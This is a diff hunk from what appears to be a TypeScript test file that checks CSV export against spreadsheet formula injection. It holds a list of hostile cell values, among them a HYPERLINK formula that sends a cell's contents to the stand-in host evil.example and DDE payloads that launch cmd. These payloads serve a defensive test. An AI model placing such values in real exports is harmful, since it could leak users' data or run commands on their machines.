@@ -15,7 +15,7 @@ import { asJson, clusterScenario, run } from './report-fixtures.js';
 const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
 
 /** Parses CSV text with csv-parse (a real parser, not our own output read back by eye). */
-const rows = (text: string): string[][] => parse(text, { relax_column_count: false }) as string[][];
+const rows = (text: string): string[][] => parse(text, { relax_column_count: false });
 
 /** A cell is safe when a spreadsheet would not start a formula with it. */
 const safe = (cell: string): boolean => !/^[=+\-@\t\r]/.test(cell);
